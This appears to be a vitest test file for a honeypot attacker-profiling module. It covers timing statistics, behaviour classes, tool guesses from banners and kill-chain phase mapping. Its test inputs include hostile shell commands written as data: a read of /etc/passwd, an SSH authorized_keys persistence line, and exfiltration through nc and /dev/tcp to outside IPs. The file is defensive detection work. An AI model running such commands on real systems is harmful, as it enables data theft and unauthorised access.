// Behaviour classes, tool guesses and kill-chain phases from known attacker shapes.
import { describe, expect, it } from 'vitest';
import { phasesOf } from './phases';
import { behaviorOf, timingOf, toolGuessesOf } from './profile';

const base = { eventCount: 0, connectCount: 0, authCount: 0, commandCount: 0, requestCount: 0, iatCount: 0, iatSumS: 0, iatSumSqS: 0, services: ['ssh'] };
const iat = (gaps: number[]) => ({ iatCount: gaps.length, iatSumS: gaps.reduce((a, b) => a + b, 0), iatSumSqS: gaps.reduce((a, b) => a + b * b, 0) });

describe('attacker profile', () => {
  it('computes mean and spread of inter-arrival times', () => {
    const t = timingOf(iat([1, 3, 5]));
    expect(t.meanIatS).toBeCloseTo(3);
    expect(t.stdevIatS).toBeCloseTo(Math.sqrt(8 / 3));
    expect(timingOf(iat([])).meanIatS).toBeNull();
  });

  it('classifies DECNET behaviour classes from counters', () => {
    expect(behaviorOf({ ...base, eventCount: 8, connectCount: 8, services: ['ssh', 'http', 'ftp'], ...iat(Array(7).fill(0.3)) })).toBe('scanning');
    expect(behaviorOf({ ...base, eventCount: 40, authCount: 20, connectCount: 20, ...iat(Array(39).fill(0.4)) })).toBe('brute_force');
    expect(behaviorOf({ ...base, eventCount: 12, commandCount: 6, ...iat([2, 9, 4, 15, 3, 22, 6, 1.5, 11, 5, 30]) })).toBe('interactive');
    expect(behaviorOf({ ...base, eventCount: 1, connectCount: 1 })).toBe('unknown');
  });

  it('guesses tools from client banners, user agents and rate', () => {
    expect(toolGuessesOf(['SSH-2.0-libssh2_1.10.0', 'Mozilla/5.0 zgrab/0.x', 'sqlmap/1.7'], timingOf(iat([])), 3)).toEqual(['libssh2 (scripted SSH client)', 'ZGrab', 'sqlmap']);
    expect(toolGuessesOf([], timingOf(iat(Array(30).fill(0.01))), 31)).toEqual(['automated (high request rate)']);
  });

  it('maps events and commands to kill-chain phases', () => {
    expect(phasesOf('connect', {})).toEqual(['reconnaissance']);
    expect(phasesOf('auth_attempt', { secret_b64: 'eA==' })).toEqual(['credential_access']);
    expect(phasesOf('command', { cmd: 'uname -a; cat /etc/passwd' }).sort()).toEqual(['discovery', 'execution']);
    expect(phasesOf('command', { cmd: 'echo key >> ~/.ssh/authorized_keys' })).toContain('persistence');
    expect(phasesOf('command', { cmd: 'tar cz /etc | nc 203.0.113.5 9000' })).toContain('exfiltration');
    expect(phasesOf('command', { cmd: 'cat /dev/null > /dev/tcp/1.2.3.4/80' })).toContain('exfiltration');
    expect(phasesOf('download_attempt', { path: '/backup.tar' })).toEqual(['exfiltration']);
  });
});
